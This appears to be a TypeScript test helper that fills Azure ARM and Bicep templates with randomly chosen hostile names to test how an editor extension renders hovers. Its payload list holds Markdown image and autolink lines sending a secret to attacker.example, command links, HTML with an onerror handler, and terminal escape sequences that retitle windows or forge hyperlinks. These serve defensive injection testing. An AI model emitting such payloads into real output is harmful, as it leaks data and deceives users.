import { SCHEMA } from '../../support/templates';
import type { Prng } from '../../support/prng';

/**
 * What a hostile template writes into names and values: Markdown that would break out
 * of a code span and fetch a remote image with a value in its address, command links,
 * headings, raw HTML, autolinks, terminal escapes that retitle the window, clear the
 * screen or forge a hyperlink, and line breaks of every kind.
 */
export const SECRET = 'S3CR3T';

export const payloads: readonly string[] = [
  `x\`![](https://attacker.example/i.png?d=${SECRET})\``,
  `\`\`\` ![a](https://attacker.example/?d=${SECRET}) \`\`\``,
  `\n\n# Heading ${SECRET}\n\n`,
  `\r\n\r\n![img](https://attacker.example/${SECRET}.png)`,
  `[open a terminal](command:workbench.action.terminal.new?${SECRET})`,
  `<img src="https://attacker.example/${SECRET}" onerror="alert(1)">`,
  `<https://attacker.example/${SECRET}>`,
  `https://attacker.example/?d=${SECRET}`,
  `www.attacker.example/${SECRET}`,
  `mail@attacker.example`,
  '| cell | another |',
  '$(zap) $$x^2$$',
  '&lt;script&gt;',
  '\u2028\u2029\u0085',
  '\u0000\u0007\u001b[2J',
  `\u001b]0;${SECRET} title\u0007`,
  `\u001b]8;;https://attacker.example/${SECRET}\u0007link\u001b]8;;\u0007`,
  '\u009b31m',
  '\u202eevil\u202c',
  '*emphasis* _under_ ~~strike~~',
  '\\`backslash',
  "quote ' \" ${interpolation}",
];

/** One to three payloads and some plain text, joined. */
export function hostileString(prng: Prng): string {
  const parts = Array.from({ length: 1 + prng.int(3) }, () => (prng.chance(0.8) ? prng.pick(payloads) : `name-${prng.int(1000)}`));
  return parts.join(prng.pick(['', ' ', '-', '\n']));
}

/** The hostile strings one template is built from. */
export interface HostileNames {
  ase: string;
  nsg: string;
  rule: string;
  vnet: string;
  subnet: string;
  /** A security rule's source prefix: shown in hovers as written. */
  prefix: string;
  /** A security rule's port range. */
  port: string;
  /** The region of a regional service tag (`Storage.<region>`). */
  region: string;
  /** A route's next hop type. */
  hop: string;
}

export function hostileNames(prng: Prng): HostileNames {
  return {
    ase: hostileString(prng),
    nsg: hostileString(prng),
    rule: hostileString(prng),
    vnet: hostileString(prng),
    subnet: hostileString(prng),
    prefix: hostileString(prng),
    port: hostileString(prng),
    region: hostileString(prng),
    hop: hostileString(prng),
  };
}

/**
 * An ASEv2 whose NSG denies all inbound traffic first (so the ASE hover lists blocked
 * dependencies and other findings quoting the names), with the hostile names everywhere
 * a hover or the explain request shows template text.
 */
export function hostileArm(n: HostileNames): string {
  const rule = (name: string, priority: number, extra: Record<string, unknown>) => ({
    name,
    properties: {
      priority,
      direction: 'Inbound',
      access: 'Deny',
      protocol: '*',
      sourceAddressPrefix: '*',
      sourcePortRange: '*',
      destinationAddressPrefix: '*',
      destinationPortRange: '*',
      ...extra,
    },
  });
  return JSON.stringify(
    {
      $schema: SCHEMA,
      contentVersion: '1.0.0.0',
      resources: [
        {
          type: 'Microsoft.Network/networkSecurityGroups',
          apiVersion: '2023-04-01',
          name: n.nsg,
          location: 'westeurope',
          properties: {
            securityRules: [
              rule(n.rule, 100, {}),
              rule(`${n.rule}-2`, 200, { sourceAddressPrefix: n.prefix, destinationPortRange: n.port }),
              rule(`${n.rule}-3`, 300, { destinationAddressPrefix: `Storage.${n.region}`, direction: 'Outbound' }),
            ],
          },
        },
        {
          type: 'Microsoft.Network/routeTables',
          apiVersion: '2023-04-01',
          name: `${n.nsg}-routes`,
          location: 'westeurope',
          properties: { routes: [{ name: n.rule, properties: { addressPrefix: '0.0.0.0/0', nextHopType: n.hop } }] },
        },
        {
          type: 'Microsoft.Network/virtualNetworks',
          apiVersion: '2023-04-01',
          name: n.vnet,
          location: 'westeurope',
          properties: {
            addressSpace: { addressPrefixes: ['10.0.0.0/16'] },
            subnets: [
              {
                name: n.subnet,
                properties: {
                  addressPrefix: '10.0.1.0/24',
                  networkSecurityGroup: { id: `[resourceId('Microsoft.Network/networkSecurityGroups', '${armQuoted(n.nsg)}')]` },
                  routeTable: { id: `[resourceId('Microsoft.Network/routeTables', '${armQuoted(`${n.nsg}-routes`)}')]` },
                },
              },
            ],
          },
        },
        {
          type: 'Microsoft.Web/hostingEnvironments',
          apiVersion: '2019-08-01',
          name: n.ase,
          location: 'westeurope',
          kind: 'ASEV2',
          properties: {
            internalLoadBalancingMode: 'None',
            virtualNetwork: { id: `[resourceId('Microsoft.Network/virtualNetworks/subnets', '${armQuoted(n.vnet)}', '${armQuoted(n.subnet)}')]` },
          },
        },
      ],
    },
    null,
    2,
  );
}

/** The same deployment in Bicep. */
export function hostileBicep(n: HostileNames): string {
  const s = bicepString;
  const rule = (name: string, priority: number, direction: string, source: string, destination: string, port: string) => `      {
        name: ${s(name)}
        properties: {
          priority: ${priority}
          direction: '${direction}'
          access: 'Deny'
          protocol: '*'
          sourceAddressPrefix: ${s(source)}
          sourcePortRange: '*'
          destinationAddressPrefix: ${s(destination)}
          destinationPortRange: ${s(port)}
        }
      }`;
  return `resource nsg 'Microsoft.Network/networkSecurityGroups@2023-04-01' = {
  name: ${s(n.nsg)}
  location: 'westeurope'
  properties: {
    securityRules: [
${rule(n.rule, 100, 'Inbound', '*', '*', '*')}
${rule(`${n.rule}-2`, 200, 'Inbound', n.prefix, '*', n.port)}
${rule(`${n.rule}-3`, 300, 'Outbound', '*', `Storage.${n.region}`, '*')}
    ]
  }
}

resource routes 'Microsoft.Network/routeTables@2023-04-01' = {
  name: ${s(`${n.nsg}-routes`)}
  location: 'westeurope'
  properties: {
    routes: [
      {
        name: ${s(n.rule)}
        properties: {
          addressPrefix: '0.0.0.0/0'
          nextHopType: ${s(n.hop)}
        }
      }
    ]
  }
}

resource vnet 'Microsoft.Network/virtualNetworks@2023-04-01' = {
  name: ${s(n.vnet)}
  location: 'westeurope'
  properties: {
    addressSpace: {
      addressPrefixes: [
        '10.0.0.0/16'
      ]
    }
    subnets: [
      {
        name: ${s(n.subnet)}
        properties: {
          addressPrefix: '10.0.1.0/24'
          networkSecurityGroup: {
            id: nsg.id
          }
          routeTable: {
            id: routes.id
          }
        }
      }
    ]
  }
}

resource ase 'Microsoft.Web/hostingEnvironments@2019-08-01' = {
  name: ${s(n.ase)}
  location: 'westeurope'
  kind: 'ASEV2'
  properties: {
    internalLoadBalancingMode: 'None'
    virtualNetwork: {
      id: vnet.properties.subnets[0].id
    }
  }
}
`;
}

/** A string literal inside an ARM expression: `'` doubled. */
function armQuoted(s: string): string {
  return s.replace(/'/g, "''");
}

/** A Bicep string literal holding exactly `s`. */
export function bicepString(s: string): string {
  let out = "'";
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (ch === '\\') out += '\\\\';
    else if (ch === "'") out += "\\'";
    else if (ch === '$') out += '\\$';
    else if (ch === '\n') out += '\\n';
    else if (ch === '\r') out += '\\r';
    else if (ch === '\t') out += '\\t';
    else if (c < 0x20 || (c >= 0x7f && c <= 0x9f) || c === 0x2028 || c === 0x2029) out += `\\u{${c.toString(16)}}`;
    else out += ch;
  }
  return `${out}'`;
}
